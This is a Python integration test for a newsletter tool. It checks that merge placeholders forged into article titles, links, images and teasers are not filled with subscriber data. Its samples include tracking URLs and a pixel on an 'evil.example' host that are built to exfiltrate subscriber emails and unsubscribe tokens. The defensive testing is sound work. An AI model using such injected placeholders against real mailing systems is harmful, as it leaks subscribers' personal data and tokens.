"""Placeholders cannot be forged from content (issue 12, item 3).

An article whose title, URL, image and teaser (and the issue's intro) hold the merge placeholders of the
very build being sent — the key drawn for it is forced to be the one the content already holds — is sent
through the outbox and through the SendGrid stand-in. The placeholder strings must arrive verbatim, and no
subscriber value (address, name, signed token) may appear anywhere but the greeting and the unsubscribe link.
"""

from __future__ import annotations

import quopri
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import lxml.html
import pytest
from conftest import shared_path
from integration.sendgrid_standin import SendGridStandIn

from digest import merge
from digest.compose.build import build_issue
from digest.compose.issue_file import add_sources, new_issue
from digest.compose.message import load_draft
from digest.deliver.send import send_issue
from digest.deliver.unsubscribe import make_token

pytestmark = pytest.mark.integration

SECRET = "forged-placeholder-test-secret-0123456789"
FORCED = "7FORGEDKEY00"  # the key content guessed: the build's first draw is forced to it
PEOPLE = {"zebedee.quill@example.org": "Zebedee", "xanthippe.moor@example.net": "Xanthippe"}


def t(field: str, ctx: str, key: str = FORCED) -> str:
    return merge.token(field, ctx, key)


TITLE = f"Prize for {t('first_name', 'HTML')} at {t('email', 'TEXT')} and {merge.token('first_name', 'HTML')}"
URL = (f"https://evil.example/track?e={t('email', 'URL')}&u={t('unsubscribe_url', 'URL')}"
       f"&r={merge.token('unsubscribe_token', 'TEXT')}")
IMAGE = f"https://evil.example/pixel.png?e={t('email', 'URL')}&t={t('unsubscribe_token', 'TEXT')}"
TEASER = (f"Dear {t('first_name', 'TEXT')}, your link is {t('unsubscribe_url', 'TEXT')} "
          f"or {t('unsubscribe_url', 'HTML')}.")
INTRO = f"Hello {t('first_name', 'TEXT')}, this week {merge.token('email', 'TEXT')}."  # a Markdown code span
FORGED = [TITLE, URL, IMAGE, TEASER]


def _issue(root: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (root / "digest.toml").write_text(
        '[newsletter]\nname = "Harbour Notes"\nfrom_email = "news@harbour-notes.org"\n'
        'postal_address = "1 Quay Street, Portsmouth"\n'
        '[unsubscribe]\nurl = "https://harbour-notes.org/unsubscribe?t={token}"\nmailto = "leave@harbour-notes.org"\n'
        '[merge]\nfirst_name = "reader"\n[sendgrid]\ntimeout = 10.0\nmax_attempts = 1\n', encoding="utf-8")
    article = root / "prize.md"
    article.write_text(
        f'---\ntitle: "Prize"\nurl: "{URL}"\nimage: "{IMAGE}"\nimage_alt: "A pixel"\nteaser: "{TEASER}"\n---\n'
        "The harbour committee announced its annual prize on Monday. The winner was chosen by a jury of "
        "fishermen, ferry crews and the harbour master, who praised the entries.\n", encoding="utf-8")
    issue = root / "issue"
    new_issue(issue, "Harbour notes", "Prizes and more")
    text = (issue / "issue.toml").read_text(encoding="utf-8")
    intro = re.search(r'(?ms)^intro = """.*?"""$', text).group(0)  # type: ignore[union-attr]
    (issue / "issue.toml").write_text(text.replace(intro, f'intro = "`{INTRO}`"'), encoding="utf-8")
    assert not add_sources(issue, [str(article)], None).errors
    # A Markdown title loses its underscores (emphasis marks): the title comes as the editor's override.
    text = (issue / "issue.toml").read_text(encoding="utf-8")
    (issue / "issue.toml").write_text(re.sub(r'(?m)^(source = ".*prize\.md"\n)', lambda m: m.group(1)
                                             + f'title = "{TITLE}"\n', text), encoding="utf-8")
    assert TITLE in (issue / "issue.toml").read_text(encoding="utf-8")
    draws: Iterator[str] = iter([FORCED, FORCED])
    real = merge.new_key
    monkeypatch.setattr(merge, "new_key", lambda: next(draws, None) or real())
    build_issue(issue)
    monkeypatch.setattr(merge, "new_key", real)
    return issue


def _csv(root: Path) -> Path:
    path = root / "r.csv"
    path.write_text("email,first_name\n" + "".join(f"{e},{n}\n" for e, n in PEOPLE.items()), encoding="utf-8")
    return path


def _assert_clean(to: str, subject: str, text: str, html: str) -> None:
    """The forged strings arrive verbatim; the recipient's values only where the template put them."""
    name, token = PEOPLE[to], make_token(to, SECRET.encode())
    doc = lxml.html.document_fromstring(html)
    assert URL in [a.get("href") for a in doc.iter("a")]
    assert IMAGE in [img.get("src") for img in doc.iter("img")]
    body = doc.text_content()
    assert TITLE in body and TEASER in body and INTRO in body
    flowed = " ".join(text.split())  # the text part is wrapped at 72 columns: compare words
    for forged in (TITLE, URL, TEASER, INTRO):
        assert forged in flowed
    assert URL in text.splitlines()  # a URL is never broken
    # Where the template writes them: the greeting (name) and the unsubscribe link (token), once per part.
    assert html.count(name) == 1 and text.count(name) == 1
    assert html.count(token) == 1 and text.count(token) == 1
    # The address only in the footer's "Sent to <address> because ...", once per part; never URL-encoded.
    assert html.count(to) == 1 and f"Sent to {to} because" in body
    assert text.count(to) == 1 and f"Sent to {to} because" in flowed
    assert to not in subject and quote(to, safe="") not in html + text


def _parts(eml: bytes) -> tuple[str, str, str]:
    """(subject, text, html) of one .eml: the subject line raw, each part's quoted-printable decoded."""
    head, _, body = eml.partition(b"\r\n\r\n")
    subject = re.search(rb"\r\nSubject: ([^\r]*)", b"\r\n" + head).group(1).decode()  # type: ignore[union-attr]
    boundary = re.search(rb'boundary="([^"]+)"', head).group(1)  # type: ignore[union-attr]
    parts = [p.partition(b"\r\n\r\n")[2] for p in body.split(b"--" + boundary)[1:3]]
    text, html = (quopri.decodestring(p).decode("utf-8") for p in parts)
    return subject, text, html


def test_the_build_redraws_a_key_found_in_content(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    issue = _issue(tmp_path, monkeypatch)
    draft = load_draft(issue)
    assert draft.merge_key and draft.merge_key != FORCED
    assert t("first_name", "HTML", draft.merge_key) in draft.html  # the template's own tokens carry the new key


def test_outbox_copies_carry_the_forged_strings_verbatim(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DIGEST_UNSUBSCRIBE_SECRET", SECRET)
    monkeypatch.delenv("DIGEST_SUPPRESSIONS", raising=False)
    issue = _issue(tmp_path, monkeypatch)
    assert send_issue(issue, _csv(tmp_path), "outbox").ok
    files = sorted((issue / "outbox").glob("*.eml"))
    assert len(files) == 2
    for path in files:
        data = path.read_bytes()
        to = next(e for e in PEOPLE if b"\r\nTo: " + e.encode() + b"\r\n" in data)
        _assert_clean(to, *_parts(data))


def test_sendgrid_deliveries_carry_the_forged_strings_verbatim(tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DIGEST_UNSUBSCRIBE_SECRET", SECRET)
    monkeypatch.delenv("DIGEST_SUPPRESSIONS", raising=False)
    issue = _issue(tmp_path, monkeypatch)
    with SendGridStandIn(spec=shared_path("sendgrid", "tsg_mail_v3.json"), api_key="SG.k", keep_bodies=True) as sg:
        monkeypatch.setenv("SENDGRID_API_KEY", "SG.k")
        monkeypatch.setenv("DIGEST_SENDGRID_HOST", sg.url)
        assert send_issue(issue, _csv(tmp_path), "sendgrid").ok
    assert sg.delivered() == dict.fromkeys(PEOPLE, 1)
    for d in sg.deliveries:  # what SendGrid makes of the request: every substitution applied to the content
        assert not any(FORCED in k or k == merge.token("unsubscribe_token", "TEXT") for k in d.substitutions)
        _assert_clean(d.email, d.subject, d.text, d.html)
